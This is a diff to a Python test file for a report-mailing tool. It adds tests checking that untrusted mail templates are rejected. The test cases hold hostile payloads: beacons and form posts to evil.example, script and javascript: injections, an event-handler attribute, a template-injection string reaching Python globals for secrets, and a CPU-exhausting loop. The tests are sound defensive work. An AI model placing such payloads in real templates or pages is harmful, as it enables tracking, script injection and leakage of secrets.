@@ -14,7 +14,8 @@ import pytest
 from reportkit.delivery.planning import Wish
 from reportkit.delivery.records import Frozen
 from reportkit.delivery.send import rehearse
-from reportkit.problems import SeedsRejected
+from reportkit.page.confined import Limits
+from reportkit.problems import MachineUnable, SeedsRejected
 from tests.delivery.posting import LISTS, NOW, PDF, make_series, prepared, publish, write_lists
 
 
@@ -172,11 +173,13 @@ def test_names_in_any_script_read_back(series: Path) -> None:
 def test_a_series_can_word_its_mail_itself_and_in_another_language(series: Path) -> None:
     """A template of the list's language comes before the general one."""
     (series / "templates").mkdir()
-    (series / "templates" / "mail.ur.txt.j2").write_text("{{ page.number }}، {{ page.direction }}")
+    (series / "templates" / "mail.ur.txt.j2").write_text(
+        "{{ page.number }}، {{ page.direction }}، {{ page.marking }}", encoding="utf-8"
+    )
     write_lists(series, LISTS.replace('"TLP:AMBER"}', '"TLP:AMBER", language: ur}'))
     made = rehearsed(series)
 
-    assert "No. 1، rtl" == text_of(read(made["ann"])).strip()
+    assert "No. 1، rtl، TLP:CLEAR" == text_of(read(made["ann"])).strip()
     assert "ur" == read(made["ann"])["Content-Language"]
     assert 'dir="rtl"' in text_of(read(made["ann"]), "html")
     assert text_of(read(made["cid"])).startswith("TLP:CLEAR")
@@ -243,3 +246,66 @@ def test_a_message_above_the_budget_is_refused_before_anything_is_queued(tmp_pat
 
     assert ["mail-too-large"] == [problem.code for problem in told.value.problems]
     assert not (series / "reports" / "deliveries.sqlite").exists()
+
+
+# -- templates of strangers ------------------------------------------------------------------
+
+MAIL_HTML = '<html><body><p>{{ page.marking }}</p>%s<p style="color:#000">x</p></body></html>'
+
+
+def refused(series: Path, kind: str, template: str) -> list[tuple[str, str, int]]:
+    """Give code, file and line of what keeps a mail with this template from being made."""
+    (series / "templates").mkdir(exist_ok=True)
+    (series / "templates" / f"mail.{kind}.j2").write_text(template, encoding="utf-8")
+    with pytest.raises(SeedsRejected) as caught:
+        rehearsed(series)
+    return [(each.code, each.mark.file, each.mark.line) for each in caught.value.problems]
+
+
+@pytest.mark.parametrize(
+    ("inside", "code"),
+    [
+        ('<img src="https://evil.example/pixel.png?{{ page.number }}" alt="">', "html-element"),
+        ('<form action="https://evil.example"><b>x</b></form>', "html-element"),
+        ("<script>alert(1)</script>", "html-element"),
+        ('<a href="javascript:alert(1)">x</a>', "link-scheme"),
+        ('<p onclick="alert(1)">x</p>', "html-attribute"),
+        ('<meta name="refresh" content="0">', "html-attribute"),
+        ('<p style="background:url(https://evil.example/x)">x</p>', "asset-refused"),
+    ],
+)
+def test_a_mail_shows_nothing_that_is_not_on_its_list(series: Path, inside: str, code: str) -> None:
+    (found,) = refused(series, "html", MAIL_HTML % f"\n{inside}\n")
+
+    assert (code, "templates/mail.html.j2", 2) == found
+
+
+@pytest.mark.parametrize(
+    ("kind", "template"),
+    [
+        ("txt", "{{ page.bottom_line }}"),
+        ("html", "<html><head><title>{{ page.marking }}</title></head><body>x</body></html>"),
+    ],
+)
+def test_a_mail_without_its_marking_is_not_made(series: Path, kind: str, template: str) -> None:
+    assert [("marking-missing", f"templates/mail.{kind}.j2", 1)] == refused(series, kind, template)
+
+
+def test_a_mail_template_gets_at_no_secret(series: Path) -> None:
+    template = "{{ page.marking }}\n{{ say('{p.__init__.__globals__}', p=page) }}"
+
+    assert [("template", "templates/mail.txt.j2", 2)] == refused(series, "txt", template)
+
+
+def test_a_mail_template_that_never_ends_is_stopped(
+    series: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("reportkit.delivery.writing.LIMITS", Limits(cpu_seconds=1))
+    nine = "{% for c in 'x'.center(99999) %}"
+    (series / "templates").mkdir(exist_ok=True)
+    (series / "templates" / "mail.txt.j2").write_text(
+        f"{nine}{nine}{nine}{'{% endfor %}' * 3}", encoding="utf-8"
+    )
+
+    with pytest.raises(MachineUnable, match="the mail took more than 1 s of computing"):
+        rehearsed(series)
